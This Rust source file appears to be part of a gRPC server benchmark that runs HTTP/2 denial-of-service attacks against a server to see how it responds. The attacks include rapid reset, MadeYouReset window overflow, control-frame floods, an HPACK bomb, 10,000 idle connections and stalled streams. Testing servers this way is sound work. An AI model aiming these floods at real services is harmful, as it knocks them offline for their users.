//! The attacks.

use std::{net::SocketAddr, pin::Pin, time::Duration};

use prost::Message;
use rsgrpc_bench::ours::DownloadRequest;
use tokio::net::{TcpSocket, TcpStream};

use crate::attacker::{
    Attacker, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, call, frame, message,
};

/// What an attack sent, how it ended, and what it still holds open.
pub(crate) struct Sent {
    pub(crate) what: String,
    pub(crate) outcome: String,
    pub(crate) held: (Vec<Attacker>, Vec<TcpStream>),
}

type Attack = fn(SocketAddr) -> Pin<Box<dyn Future<Output = Sent>>>;

pub(crate) const ROWS: &[(&str, Attack)] = &[
    ("nothing", |_| Box::pin(rest())),
    ("rapid reset, 8 at a time, then a PING", |addr| Box::pin(paced(addr, cancelled, "streams", 8))),
    ("MadeYouReset: a window that overflows", |addr| Box::pin(paced(addr, overflown, "streams", 8))),
    ("PING, answers read", |addr| Box::pin(flood(addr, frame(PING, 0, 0, b"attacked")))),
    ("SETTINGS, answers read", |addr| Box::pin(flood(addr, frame(SETTINGS, 0, 0, &[])))),
    ("PRIORITY", |addr| Box::pin(flood(addr, frame(PRIORITY, 0, 1001, &[0, 0, 0, 1, 0])))),
    ("WINDOW_UPDATE", |addr| Box::pin(flood(addr, frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])))),
    ("empty CONTINUATION", |addr| Box::pin(behind(addr, 0, frame(CONTINUATION, 0, 1, &[])))),
    ("empty DATA", |addr| Box::pin(behind(addr, END_HEADERS, frame(DATA, 0, 1, &[])))),
    ("HPACK bomb under the limit, 4,000 calls", |addr| Box::pin(bombs(addr))),
    ("10,000 idle connections", |addr| Box::pin(idle(addr))),
    ("1,000 streams, windows open, socket unread", |addr| Box::pin(stalled(addr, true))),
    ("1,000 streams, window 0", |addr| Box::pin(stalled(addr, false))),
    ("a prefix of 4 MiB on 200 streams", |addr| Box::pin(prefixes(addr))),
    ("early answer, the caller goes on sending", |addr| Box::pin(late(addr))),
    ("no attack: 1,000,000 messages of 17 bytes, each a frame", |addr| Box::pin(small(addr))),
];

const UPLOAD: &str = "/bench.v1.Bench/Upload";
/// How long an attack that is not stopped goes on.
const LIMIT: Duration = Duration::from_secs(10);

async fn rest() -> Sent {
    tokio::time::sleep(Duration::from_secs(2)).await;
    Sent { what: "0".to_owned(), outcome: "-".to_owned(), held: (vec![], vec![]) }
}

async fn ended(mut attacker: Attacker, what: String, over: bool) -> Sent {
    if over {
        attacker.until("the end", |seen| seen.closed).await;
    }
    let seen = attacker.seen();
    let outcome = match (seen.goaway, seen.closed) {
        (Some(code), _) => format!("GOAWAY {code}"),
        (None, true) => "closed".to_owned(),
        (None, false) => "nothing".to_owned(),
    };
    Sent { what, outcome, held: (vec![attacker], vec![]) }
}

fn open(attacker: &mut Attacker, path: &str) -> (u32, Vec<u8>) {
    let stream = attacker.stream();
    (stream, frame(HEADERS, END_HEADERS, stream, &call(path)))
}

fn cancelled(attacker: &mut Attacker) -> Vec<u8> {
    let (stream, open) = open(attacker, UPLOAD);
    [open, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
}

fn overflown(attacker: &mut Attacker) -> Vec<u8> {
    let (stream, open) = open(attacker, UPLOAD);
    [open, frame(WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff])].concat()
}

async fn paced(addr: SocketAddr, one: fn(&mut Attacker) -> Vec<u8>, of: &str, at_once: usize) -> Sent {
    let mut attacker = Attacker::connect(addr).await;
    let rounds = attacker.rounds(20_000, |attacker| (0..at_once).flat_map(|_| one(attacker)).collect()).await;
    ended(attacker, format!("{} {of}", rounds.unwrap_or(20_000) * at_once), rounds.is_some()).await
}

async fn flood(addr: SocketAddr, one: Vec<u8>) -> Sent {
    let attacker = Attacker::connect(addr).await;
    pour(attacker, one).await
}

async fn behind(addr: SocketAddr, flags: u8, one: Vec<u8>) -> Sent {
    let mut attacker = Attacker::connect(addr).await;
    let stream = attacker.stream();
    attacker.send(&frame(HEADERS, flags, stream, &call(UPLOAD))).await;
    pour(attacker, one).await
}

async fn pour(mut attacker: Attacker, one: Vec<u8>) -> Sent {
    let mut frames = 0;
    let batch = one.repeat(100);
    let sending = async {
        while !attacker.seen().is_over() && attacker.send(&batch).await {
            frames += 100;
            // What came back is read by a task of its own.
            tokio::task::yield_now().await;
        }
    };
    let over = tokio::time::timeout(LIMIT, sending).await.is_ok();
    let bytes = frames * one.len();
    ended(attacker, format!("{frames} frames, {} KiB", bytes / 1024), over).await
}

/// A field goes into the table, then as many references to it as one call may have.
async fn bombs(addr: SocketAddr) -> Sent {
    let planted = [&[0x40, 1][..], b"a", &[1], b"b"].concat();
    let bomb = [call(UPLOAD), planted, vec![0x80 | 62; 120]].concat();
    let mut attackers = Vec::new();
    let mut refused = 0;
    for _ in 0..20 {
        let mut attacker = Attacker::connect(addr).await;
        for _ in 0..200 {
            let stream = attacker.stream();
            attacker.send(&frame(HEADERS, END_HEADERS, stream, &bomb)).await;
        }
        attacker.settled().await;
        attackers.push(attacker);
    }
    tokio::time::sleep(Duration::from_secs(2)).await;
    attackers.iter().for_each(|attacker| refused += attacker.seen().resets.len());
    let what = format!("{} KiB", 4000 * bomb.len() / 1024);
    Sent { what, outcome: format!("{refused} calls reset"), held: (attackers, vec![]) }
}

/// From several addresses, since one may have 4,096.
async fn idle(addr: SocketAddr) -> Sent {
    let mut sockets = Vec::new();
    for i in 0..10_000u32 {
        let socket = TcpSocket::new_v4().unwrap();
        socket.bind(SocketAddr::from(([127, 0, 1, (i / 3000) as u8], 0))).unwrap();
        let mut stream = socket.connect(addr).await.unwrap();
        let greeting = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        tokio::io::AsyncWriteExt::write_all(&mut stream, &greeting).await.unwrap();
        sockets.push(stream);
    }
    tokio::time::sleep(Duration::from_secs(2)).await;
    Sent {
        what: "10,000 times preface and SETTINGS".to_owned(),
        outcome: "idle, 5 min".to_owned(),
        held: (vec![], sockets),
    }
}

/// Five connections of 200 streams, each of which asks for far more than anybody reads.
async fn stalled(addr: SocketAddr, windows: bool) -> Sent {
    let window: [u8; 4] = if windows { [0x7f, 0xff, 0xff, 0xff] } else { [0; 4] };
    let settings = frame(SETTINGS, 0, 0, &[&[0, 4][..], &window].concat());
    let ask = DownloadRequest { count: 1_000_000, size: 1024, yields: false }.encode_to_vec();
    let ask = [&[0, 0, 0, 0, ask.len() as u8][..], &ask].concat();
    let mut sockets = Vec::new();
    for _ in 0..5 {
        let mut stream = TcpStream::connect(addr).await.unwrap();
        let mut sent = [PREFACE, &settings, &frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0, 0, 0])].concat();
        for id in (1..400).step_by(2) {
            sent.extend(frame(HEADERS, END_HEADERS, id, &call("/bench.v1.Bench/Download")));
            sent.extend(frame(DATA, END_STREAM, id, &ask));
        }
        tokio::io::AsyncWriteExt::write_all(&mut stream, &sent).await.unwrap();
        sockets.push(stream);
    }
    tokio::time::sleep(Duration::from_secs(3)).await;
    Sent { what: "1,000 calls".to_owned(), outcome: "unread, 5 min".to_owned(), held: (vec![], sockets) }
}

async fn prefixes(addr: SocketAddr) -> Sent {
    let mut attacker = Attacker::connect(addr).await;
    for _ in 0..200 {
        let (stream, open) = open(&mut attacker, UPLOAD);
        attacker.send(&[open, frame(DATA, 0, stream, &[0, 0, 0x40, 0, 0])].concat()).await;
    }
    attacker.settled().await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    Sent { what: "200 calls".to_owned(), outcome: "receive_timeout, 30 s".to_owned(), held: (vec![attacker], vec![]) }
}

async fn late(addr: SocketAddr) -> Sent {
    let mut attacker = Attacker::connect(addr).await;
    let (stream, open) = open(&mut attacker, "/bench.v1.Bench/Nothing");
    attacker.send(&open).await;
    let chunk = frame(DATA, 0, stream, &[0; 16_384]);
    let mut sent = 0;
    let sending = async {
        while !attacker.seen().is_over() && attacker.send(&chunk).await {
            sent += chunk.len();
            tokio::task::yield_now().await;
        }
    };
    let over = tokio::time::timeout(LIMIT, sending).await.is_ok();
    ended(attacker, format!("{} KiB", sent / 1024), over).await
}

/// As fast as the server takes them, each batch within its windows.
async fn small(addr: SocketAddr) -> Sent {
    let mut attacker = Attacker::connect(addr).await;
    let (stream, open) = open(&mut attacker, UPLOAD);
    attacker.send(&open).await;
    // A prefix, a tag, a length and ten bytes.
    let batch = frame(DATA, 0, stream, &message("0123456789")).repeat(2000);
    let over = attacker.rounds(500, |_| batch.clone()).await;
    let sent = over.unwrap_or(500) * 2000;
    if over.is_none() {
        attacker.send(&frame(DATA, END_STREAM, stream, &[])).await;
        attacker.until("the answer", |seen| seen.ended == 1).await;
    }
    ended(attacker, format!("{sent} messages"), over.is_some()).await
}
